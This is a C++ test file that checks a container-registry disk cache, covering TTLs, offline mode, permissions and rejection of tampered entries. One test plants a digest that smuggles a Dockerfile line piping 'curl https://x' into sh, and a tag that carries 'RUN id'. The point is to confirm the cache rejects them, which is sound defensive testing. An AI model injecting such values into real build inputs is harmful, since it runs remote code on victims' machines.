#include "stalebase/reference/image_reference.hpp"
#include "stalebase/registry/cache.hpp"

#include "support/memory_registry.hpp"
#include "support/temp_dir.hpp"

#include <catch2/catch.hpp>

#include <fstream>
#include <sys/stat.h>
#include <unistd.h>

using namespace stalebase;
using namespace stalebase::registry;
namespace fs = std::filesystem;

namespace {

using stalebase::test::TempDir;

constexpr const char *k_repo = "docker.io/library/alpine";

std::string image_manifest(const std::string &marker) {
  return R"({"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json",)"
         R"("config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:)" +
         std::string(64, 'c') + R"(","size":)" + std::to_string(marker.size()) +
         R"(},"layers":[]})";
}

reference::ImageReference ref(const std::string &text) {
  auto parsed = reference::parse_reference(text);
  REQUIRE(parsed.has_value());
  return *parsed;
}

} // namespace

TEST_CASE("CachingRegistry answers repeated look-ups from disk within the TTL",
          "[registry]") {
  TempDir dir;
  MemoryRegistry memory;
  const auto digest =
      memory.add_manifest(k_repo, image_manifest("a"),
                          "application/vnd.oci.image.manifest.v1+json");
  memory.set_tag(k_repo, "3.20", digest);
  std::int64_t now = 1'000'000;
  CacheOptions options{
      dir.path, std::chrono::seconds(3600), false, [&now] { return now; }, {}};

  {
    CachingRegistry cache(&memory, options);
    REQUIRE(cache.resolve(ref("alpine:3.20"))->digest == digest);
    REQUIRE(cache.list_tags(ref("alpine:3.20"))->size() == 1);
    REQUIRE(cache.manifest(ref("alpine"), digest)->digest == digest);
    CHECK(cache.misses() == 3);
  }
  SECTION("a second run within the TTL asks nothing") {
    CachingRegistry cache(&memory, options);
    CHECK(cache.resolve(ref("alpine:3.20"))->digest == digest);
    CHECK(cache.list_tags(ref("alpine:3.20")).value() ==
          std::vector<std::string>{"3.20"});
    CHECK(cache.manifest(ref("alpine"), digest)->digest == digest);
    CHECK(cache.hits() == 3);
    CHECK(memory.calls("resolve") == 1);
    CHECK(memory.calls("list_tags") == 1);
    CHECK(memory.calls("manifest") == 1);
  }
  SECTION("after the TTL tags are asked again, manifests by digest are not") {
    now += 3600;
    CachingRegistry cache(&memory, options);
    CHECK(cache.resolve(ref("alpine:3.20"))->digest == digest);
    CHECK(cache.list_tags(ref("alpine")).has_value());
    CHECK(cache.manifest(ref("alpine"), digest).has_value());
    CHECK(memory.calls("resolve") == 2);
    CHECK(memory.calls("list_tags") == 2);
    CHECK(memory.calls("manifest") == 1);
  }
  SECTION("offline answers from the cache and says what it could not answer") {
    options.offline = true;
    CachingRegistry cache(nullptr, options);
    CHECK(cache.resolve(ref("alpine:3.20"))->digest == digest);
    const auto miss = cache.resolve(ref("alpine:3.19"));
    REQUIRE_FALSE(miss.has_value());
    CHECK(miss.error().message ==
          "docker.io/library/alpine:3.19 is not in the cache (--offline)");
  }
  SECTION("corrupt and foreign entries are misses, then replaced") {
    for (const auto &entry : fs::recursive_directory_iterator(dir.path)) {
      if (entry.is_regular_file()) {
        std::ofstream(entry.path(), std::ios::trunc)
            << "{\"key\": \"something else\"";
      }
    }
    CachingRegistry cache(&memory, options);
    CHECK(cache.resolve(ref("alpine:3.20"))->digest == digest);
    CHECK(cache.misses() == 1);
    CachingRegistry again(&memory, options);
    CHECK(again.resolve(ref("alpine:3.20"))->digest == digest);
    CHECK(again.hits() == 1);
  }
}

TEST_CASE("CachingRegistry keeps not-found answers for the TTL", "[registry]") {
  TempDir dir;
  MemoryRegistry memory;
  const auto digest =
      memory.add_manifest(k_repo, image_manifest("a"),
                          "application/vnd.oci.image.manifest.v1+json");
  memory.set_tag(k_repo, "3.20", digest);
  const auto gone =
      reference::Digest::parse("sha256:" + std::string(64, 'e')).value();
  std::int64_t now = 1'000'000;
  CacheOptions options{
      dir.path, std::chrono::seconds(3600), false, [&now] { return now; }, {}};
  const auto ask_all = [&](CachingRegistry &cache) {
    const auto tag = cache.resolve(ref("alpine:3.18.9"));
    REQUIRE_FALSE(tag.has_value());
    CHECK(tag.error().kind == RegistryErrorKind::not_found);
    CHECK(tag.error().message == "tag \"3.18.9\" not found");
    const auto pinned = cache.resolve(ref(("alpine@" + gone).c_str()));
    REQUIRE_FALSE(pinned.has_value());
    CHECK(pinned.error().message == "manifest \"" + gone + "\" not found");
    const auto manifest = cache.manifest(ref("alpine"), gone);
    REQUIRE_FALSE(manifest.has_value());
    CHECK(manifest.error().kind == RegistryErrorKind::not_found);
    const auto tags = cache.list_tags(ref("nothere"));
    REQUIRE_FALSE(tags.has_value());
    CHECK(tags.error().kind == RegistryErrorKind::not_found);
    CHECK(tags.error().message == "repository not found or unauthorized");
  };
  {
    CachingRegistry cache(&memory, options);
    ask_all(cache);
    CHECK(cache.misses() == 4);
  }
  SECTION(
      "a second run within the TTL gets the same answers and asks nothing") {
    CachingRegistry cache(&memory, options);
    ask_all(cache);
    CHECK(cache.hits() == 4);
    CHECK(memory.calls("resolve") == 2);
    CHECK(memory.calls("manifest") == 1);
    CHECK(memory.calls("list_tags") == 1);
  }
  SECTION("offline too") {
    CachingRegistry cache(nullptr, CacheOptions{dir.path,
                                                std::chrono::seconds(3600),
                                                true,
                                                [&now] { return now; },
                                                {}});
    ask_all(cache);
    CHECK(cache.hits() == 4);
  }
  SECTION("after the TTL every one is asked again, even by digest") {
    now += 3600;
    CachingRegistry cache(&memory, options);
    ask_all(cache);
    CHECK(cache.misses() == 4);
    CHECK(memory.calls("resolve") == 4);
    CHECK(memory.calls("manifest") == 2);
    CHECK(memory.calls("list_tags") == 2);
  }
}

TEST_CASE("CachingRegistry never caches transient errors", "[registry]") {
  TempDir dir;
  MemoryRegistry memory;
  memory.fail(k_repo, RegistryError{RegistryErrorKind::unavailable, "down"});
  CacheOptions options{
      dir.path, std::chrono::seconds(3600), false, [] { return 5; }, {}};
  CachingRegistry cache(&memory, options);
  CHECK_FALSE(cache.resolve(ref("alpine:3.20")).has_value());
  CHECK_FALSE(cache.resolve(ref("alpine:3.20")).has_value());
  CHECK(memory.calls("resolve") == 2);
}

namespace {

// The one entry file of `kind` ("resolve", "manifest", "tags") under `dir`.
fs::path only_entry(const fs::path &dir, const std::string &kind) {
  std::vector<fs::path> found;
  for (const auto &entry :
       fs::recursive_directory_iterator(dir / "v2" / kind)) {
    if (entry.is_regular_file()) {
      found.push_back(entry.path());
    }
  }
  REQUIRE(found.size() == 1);
  return found.front();
}

void plant(const fs::path &path, const std::string &text) {
  std::ofstream(path, std::ios::trunc) << text;
}

mode_t mode_of(const fs::path &path) {
  struct stat info {};
  REQUIRE(::stat(path.c_str(), &info) == 0);
  return info.st_mode & 07777;
}

} // namespace

// alpine:3.20 in a memory registry, a cache folder and a clock; warm() fills
// the cache with its digest, tag list and manifest.
struct Seeded {
  TempDir dir;
  MemoryRegistry memory;
  reference::Digest digest =
      memory.add_manifest(k_repo,
                          image_manifest("a"),
                          "application/vnd.oci.image.manifest.v1+json");
  std::int64_t now = 1'000'000;
  CacheOptions options{
      dir.path, std::chrono::seconds(3600), false, [this] { return now; }, {}};

  Seeded() { memory.set_tag(k_repo, "3.20", digest); }
  void warm() {
    CachingRegistry cache(&memory, options);
    REQUIRE(cache.resolve(ref("alpine:3.20")).has_value());
    REQUIRE(cache.list_tags(ref("alpine")).has_value());
    REQUIRE(cache.manifest(ref("alpine"), digest).has_value());
  }
};

TEST_CASE("CachingRegistry: planted and malformed entries are misses",
          "[registry]") {
  Seeded seeded;
  seeded.warm();
  const TempDir &dir = seeded.dir;
  MemoryRegistry &memory = seeded.memory;
  const reference::Digest &digest = seeded.digest;
  const CacheOptions &options = seeded.options;
  const fs::path resolved = only_entry(dir.path, "resolve");
  const fs::path tags = only_entry(dir.path, "tags");
  const fs::path manifest = only_entry(dir.path, "manifest");
  const std::string key = "docker.io/library/alpine:3.20";
  const auto entry = [](const std::string &k, const std::string &value) {
    return R"({"key":")" + k + R"(","stored":1000000,"value":)" + value + "}";
  };
  const auto resolved_again = [&] {
    CachingRegistry cache(&memory, options);
    const auto answer = cache.resolve(ref("alpine:3.20"));
    REQUIRE(answer.has_value());
    CHECK(answer->digest == digest);
    return cache.misses();
  };

  SECTION("a digest carrying a Dockerfile line") {
    plant(resolved,
          entry(key, R"({"digest":"sha256:0000\nRUN curl https://x | sh\n#",)"
                     R"("media_type":"","size":0})"));
    CHECK(resolved_again() == 1);
  }
  SECTION("a media type with control characters") {
    plant(resolved, entry(key, R"({"digest":")" + digest +
                                   R"(","media_type":"a\nb","size":0})"));
    CHECK(resolved_again() == 1);
  }
  SECTION("values of the wrong JSON type are misses, not errors") {
    for (const std::string &value :
         {std::string(R"({"digest":5,"media_type":"","size":0})"),
          R"({"digest":")" + digest + R"(","media_type":7,"size":0})",
          R"({"digest":")" + digest + R"(","media_type":"","size":-1})",
          std::string(R"([1,2])"), std::string(R"("x")"),
          std::string(R"({"error":"not-found","message":3})")}) {
      plant(resolved, entry(key, value));
      CHECK(resolved_again() == 1);
    }
    plant(resolved,
          R"({"key":")" + key + R"(","stored":"yesterday","value":{}})");
    CHECK(resolved_again() == 1);
  }
  SECTION("a tag list with a tag that is not a tag") {
    plant(tags,
          entry("docker.io/library/alpine", R"(["3.20","3.20\nRUN id"])"));
    CachingRegistry cache(&memory, options);
    CHECK(cache.list_tags(ref("alpine")).value() ==
          std::vector<std::string>{"3.20"});
    CHECK(cache.misses() == 1);
  }
  SECTION("a manifest whose child digest is not a digest") {
    plant(
        manifest,
        entry("docker.io/library/alpine@" + digest,
              R"({"digest":")" + digest +
                  R"(","media_type":"x","is_index":true,"config_digest":null,)"
                  R"("children":[{"media_type":"x","digest":"sha256:1\n",)"
                  R"("size":1,"platform":null,"is_attestation":false}]})"));
    CachingRegistry cache(&memory, options);
    CHECK(cache.manifest(ref("alpine"), digest)->digest == digest);
    CHECK(cache.misses() == 1);
  }
  SECTION("an entry others may write to, or a symlink, is not read") {
    ::chmod(resolved.c_str(), 0666);
    CHECK(resolved_again() == 1);
    const fs::path real = dir.path / "elsewhere.json";
    fs::rename(resolved, real);
    fs::create_symlink(real, resolved);
    CHECK(resolved_again() == 1);
  }
  SECTION("folders are created 0700 and files 0600") {
    CHECK(mode_of(resolved) == 0600);
    CHECK(mode_of(resolved.parent_path()) == 0700);
    CHECK(mode_of(dir.path / "v2") == 0700);
  }
}

TEST_CASE("CachingRegistry keys entries by the endpoint that answered",
          "[registry]") {
  TempDir dir;
  MemoryRegistry mirror;
  MemoryRegistry registry;
  const std::string planted =
      mirror.add_manifest(k_repo, image_manifest("mirror"),
                          "application/vnd.oci.image.manifest.v1+json");
  mirror.set_tag(k_repo, "3.20", planted);
  const std::string real =
      registry.add_manifest(k_repo, image_manifest("real"),
                            "application/vnd.oci.image.manifest.v1+json");
  registry.set_tag(k_repo, "3.20", real);
  CacheOptions options{
      dir.path, std::chrono::seconds(3600), false, [] { return 5; }, {}};
  CacheOptions mirrored = options;
  mirrored.endpoints = {{"index.docker.io", "mirror http://127.0.0.1:1"}};
  {
    CachingRegistry cache(&mirror, mirrored);
    CHECK(cache.resolve(ref("alpine:3.20"))->digest == planted);
    CHECK(cache.list_tags(ref("alpine")).has_value());
  }
  CachingRegistry direct(&registry, options);
  CHECK(direct.resolve(ref("alpine:3.20"))->digest == real);
  CHECK(direct.misses() == 1);
  CachingRegistry again(&mirror, mirrored);
  CHECK(again.resolve(ref("alpine:3.20"))->digest == planted);
  CHECK(again.hits() == 1);
}

TEST_CASE("CachingRegistry offline answers past the TTL and counts them",
          "[registry]") {
  Seeded seeded;
  seeded.warm();
  seeded.now += 3 * 3600;
  seeded.options.offline = true;
  CachingRegistry cache(nullptr, seeded.options);
  CHECK(cache.resolve(ref("alpine:3.20"))->digest == seeded.digest);
  CHECK(cache.list_tags(ref("alpine")).has_value());
  CHECK(cache.manifest(ref("alpine"), seeded.digest).has_value());
  CHECK(cache.hits() == 3);
  // Manifests by digest never go stale.
  CHECK(cache.stale_hits() == 2);
  CHECK(cache.oldest_stale_age() == 3 * 3600);
}

TEST_CASE("prepare_cache_dir", "[registry]") {
  TempDir dir;
  SECTION("a missing folder is created 0700, parents too") {
    const fs::path cache = dir.path / "a" / "b";
    REQUIRE(prepare_cache_dir(cache).has_value());
    CHECK(mode_of(cache) == 0700);
    CHECK(mode_of(dir.path / "a") == 0700);
  }
  SECTION("a file is not a folder") {
    const fs::path file = dir.path / "file";
    plant(file, "x");
    const auto ready = prepare_cache_dir(file);
    REQUIRE_FALSE(ready.has_value());
    CHECK(ready.error().problem == CacheDirProblem::not_a_folder);
    CHECK(ready.error().message ==
          "cache folder \"" + file.string() + "\" is not a folder");
  }
  SECTION("a folder others may write to is refused") {
    const fs::path shared = dir.path / "shared";
    fs::create_directory(shared);
    ::chmod(shared.c_str(), 0777);
    const auto ready = prepare_cache_dir(shared);
    REQUIRE_FALSE(ready.has_value());
    CHECK(ready.error().problem == CacheDirProblem::unsafe);
    CHECK(ready.error().message ==
          "cache folder \"" + shared.string() +
              "\" is not safe: others may write to it");
  }
  SECTION("an existing 0755 folder of ours is fine") {
    const fs::path mine = dir.path / "mine";
    fs::create_directory(mine);
    ::chmod(mine.c_str(), 0755);
    CHECK(prepare_cache_dir(mine).has_value());
  }
}

TEST_CASE("default_cache_dir never falls back to a shared folder",
          "[registry]") {
  const auto saved = [](const char *name) -> std::optional<std::string> {
    const char *value = std::getenv(name);
    return value ? std::optional<std::string>(value) : std::nullopt;
  };
  const auto xdg = saved("XDG_CACHE_HOME");
  const auto home = saved("HOME");
  ::unsetenv("XDG_CACHE_HOME");
  ::unsetenv("HOME");
  CHECK_FALSE(default_cache_dir().has_value());
  ::setenv("HOME", "/home/me", 1);
  CHECK(default_cache_dir() == fs::path("/home/me/.cache/stalebase"));
  ::setenv("XDG_CACHE_HOME", "/xdg", 1);
  CHECK(default_cache_dir() == fs::path("/xdg/stalebase"));
  for (const auto &[name, value] :
       {std::pair{"XDG_CACHE_HOME", xdg}, std::pair{"HOME", home}}) {
    if (value) {
      ::setenv(name, value->c_str(), 1);
    } else {
      ::unsetenv(name);
    }
  }
}

TEST_CASE("CachingRegistry keeps a manifest's version annotation",
          "[registry]") {
  TempDir dir;
  MemoryRegistry memory;
  const std::string body =
      R"({"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json",)"
      R"("config":{"digest":"sha256:)" +
      std::string(64, 'c') +
      R"("},"layers":[],"annotations":{"org.opencontainers.image.version":"3.20.3"}})";
  const auto digest = memory.add_manifest(
      k_repo, body, "application/vnd.oci.image.manifest.v1+json");
  CacheOptions options{dir.path,
                       std::chrono::seconds(3600),
                       false,
                       [] { return std::int64_t{1'000'000}; },
                       {}};
  {
    CachingRegistry cache(&memory, options);
    REQUIRE(cache.manifest(ref("alpine"), digest)->manifest.version ==
            "3.20.3");
  }
  CachingRegistry cache(&memory, options);
  CHECK(cache.manifest(ref("alpine"), digest)->manifest.version == "3.20.3");
  CHECK(cache.hits() == 1);
  CHECK(memory.calls("manifest") == 1);
}

TEST_CASE("CachingRegistry keeps blobs by digest and trusts only their hash",
          "[registry]") {
  TempDir dir;
  MemoryRegistry memory;
  const auto digest = memory.add_blob(k_repo, R"({"rootfs":{}})");
  CacheOptions options{
      dir.path, std::chrono::seconds(3600), false, [] { return 1; }, {}};
  {
    CachingRegistry cache(&memory, options);
    CHECK(cache.blob(ref("alpine"), digest, 1024).value() ==
          R"({"rootfs":{}})");
    CHECK(cache.blob(ref("alpine"), digest, 4).error().kind ==
          RegistryErrorKind::invalid_response);
  }
  CHECK(memory.calls("blob") == 2);
  {
    CachingRegistry cache(&memory, options);
    CHECK(cache.blob(ref("alpine"), digest, 1024).value() ==
          R"({"rootfs":{}})");
    CHECK(cache.hits() == 1);
  }
  CHECK(memory.calls("blob") == 2);
  // A planted file that is not those bytes is a miss.
  for (const auto &entry : fs::recursive_directory_iterator(dir.path)) {
    if (entry.is_regular_file()) {
      std::ofstream(entry.path(), std::ios::trunc) << "planted";
    }
  }
  CachingRegistry cache(&memory, options);
  CHECK(cache.blob(ref("alpine"), digest, 1024).value() == R"({"rootfs":{}})");
  CHECK(cache.misses() == 1);
  CHECK(memory.calls("blob") == 3);
}
